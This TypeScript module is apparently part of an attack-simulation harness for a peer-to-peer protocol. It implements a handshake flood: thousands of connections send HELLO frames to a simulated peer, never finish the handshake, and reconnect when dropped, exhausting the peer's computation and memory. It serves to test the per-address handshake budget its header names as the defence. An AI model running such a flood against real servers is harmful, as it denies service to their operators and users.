/**
 * handshake-flood: has Bob compute for callers who want nothing, and wait for them.
 *
 * What it does: says HELLO on thousands of connections. Each makes Bob agree on a key and sign, which costs him a
 * hundred times what it costs her, and then he waits for her proof, which never comes: each takes a place, and some
 * 30 KiB. Where he hangs up she calls again.
 * Published: J. A. Donenfeld, WireGuard, NDSS 2017, §5.3 “Denial of Service Mitigation & Cookies”; of TCP itself CERT
 * CA-1996-21, “TCP SYN Flooding”.
 * What stops it: a budget of handshakes for each address, and no place that one keeps while others wait for it.
 */

import type { Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { encodeFrame, FrameType } from '../peers/protocol/frames'
import type { Attack, Mallory } from './attack'
import { deed } from './deeds'
import { noop } from './noop'

const VICTIM = 'bob'
/** Handshakes that she would keep unfinished; in the short form just more than 256, the places of old servers. */
const IN_ALL = 2_500
const QUICK = 300
/** Calls at the same time: no more than wait in line for a server. */
const AT_ONCE = 250
/** Milliseconds before she calls again where Bob has hung up, or has said nothing at all. */
const PAUSE = 10_000

export const handshakeFlood: Attack = {
  name: 'handshake-flood',
  about: 'has Bob compute handshakes that are never finished',
  prepare: noop.prepare,
  /** Over when she has Bob's answers, as many as he gives; she goes on until the phase is over. */
  async launch(mallory) {
    const all = mallory.quick ? QUICK : IN_ALL
    mallory.acted(deed('begins-handshakes', all, VICTIM))
    for (let begun = 0; begun < all; begun += AT_ONCE) {
      const callers = Array.from({ length: Math.min(AT_ONCE, all - begun) }, async (_, place) => {
        const socket = await begin(mallory, begun + place)
        repeat(mallory, begun + place, socket).catch((error) => {
          if (!mallory.halted.aborted) throw error
        })
      })
      await Promise.all(callers)
    }
  },
}

async function repeat(mallory: Mallory, caller: number, first: Socket): Promise<void> {
  for (let socket = first; ; socket = await begin(mallory, caller)) {
    do await delay(PAUSE, null, { signal: mallory.halted })
    while (!socket.destroyed)
  }
}

/**
 * Says HELLO. @returns the connection, when Bob has answered or hung up; or when she has waited long enough: that he
 * has hung up is told once by TCP, and may get lost.
 */
async function begin(mallory: Mallory, caller: number): Promise<Socket> {
  const socket = await mallory.call(VICTIM)
  socket.once('end', () => socket.destroy())
  // Any 32 bytes are a share of X25519.
  const share = mallory.random(`share ${caller}`, 32)
  socket.write(encodeFrame(FrameType.HELLO, Buffer.concat([Buffer.from([1, 1, 1]), share])))
  const overdue = setTimeout(() => socket.destroy(), PAUSE)
  await new Promise((resolve) => socket.once('data', resolve).once('close', resolve))
  clearTimeout(overdue)
  return socket
}
